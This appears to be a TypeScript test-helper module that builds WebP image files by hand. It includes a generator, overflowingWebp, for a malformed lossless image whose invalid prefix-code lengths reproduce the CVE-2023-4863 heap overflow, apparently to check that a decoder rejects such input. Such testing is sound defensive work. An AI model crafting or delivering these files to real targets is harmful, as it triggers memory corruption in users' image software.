import { bytesOfBits } from './bits.ts'

/** A RIFF file of these chunks; `riffSize` replaces the true size. */
export function webpOf(chunks: readonly Uint8Array[], riffSize?: number): Buffer {
  const body = Buffer.concat([Buffer.from('WEBP'), ...chunks])
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1')
  head.writeUInt32LE(riffSize ?? body.length, 4)
  return Buffer.concat([head, body])
}

export function webpChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8)
  head.write(type, 'latin1')
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data, Buffer.alloc(data.length & 1)])
}

/** VP8X: a canvas of up to 2^24 pixels a side. */
export function webpCanvas(widthPx: number, heightPx: number, flags: number): Buffer {
  const data = Buffer.alloc(10)
  data[0] = flags
  data.writeUIntLE(widthPx - 1, 4, 3)
  data.writeUIntLE(heightPx - 1, 7, 3)
  return webpChunk('VP8X', data)
}

/** VP8L with sides of its own choice and `body` as its bit stream. */
export function webpLossless(widthPx: number, heightPx: number, body: Uint8Array): Buffer {
  const head = Buffer.alloc(5)
  head[0] = 0x2f
  head.writeUInt32LE((((heightPx - 1) << 14) | (widthPx - 1)) >>> 0, 1)
  return webpChunk('VP8L', Buffer.concat([head, body]))
}

/** One color in some 20 bytes, of any size (RFC 9649 §3.8: a prefix code of one symbol takes no bits). */
export function flatWebp(widthPx: number, heightPx: number): Buffer {
  const oneSymbol = '1 0 0 0'
  return webpOf([
    webpLossless(widthPx, heightPx, bytesOfBits(`000 ${oneSymbol.repeat(5)}`.padEnd(64, '0'), 'first bit lowest')),
  ])
}

/** Lengths of the codes of the distances, how many of each: incomplete, and past every table that is made for complete ones. */
const OVERFLOWING = [0, 1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2]

/**
 * Prefix codes of lengths that form no tree (RFC 9649 §3.7.2.1), as in CVE-2023-4863: who builds the tables before
 * checking the lengths writes behind their end.
 */
export function overflowingWebp(): Buffer {
  // Every length from 0 to 15 is a code of four bits, which are its value; the order of the lengths is RFC 9649's.
  const order = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]
  const bitsOf = (value: number, width: number) => [...value.toString(2).padStart(width, '0')].toReversed().join('')
  const header = `0 ${bitsOf(15, 4)} ${order.map((length) => bitsOf(length > 15 ? 0 : 4, 3)).join('')} 0`
  const code = (lengths: readonly number[]) =>
    `${header}${lengths.map((length) => length.toString(2).padStart(4, '0')).join('')}`
  const flat = (symbols: number, length: number) => Array<number>(symbols).fill(length)
  const distances = OVERFLOWING.flatMap((count, length) => flat(count, length))
  const codes = [flat(280, 9), flat(256, 8), flat(256, 8), flat(256, 8), distances].map(code).join('')
  return webpOf([webpLossless(64, 64, bytesOfBits(`000${codes}${'01'.repeat(2_000)}`, 'first bit lowest'))])
}
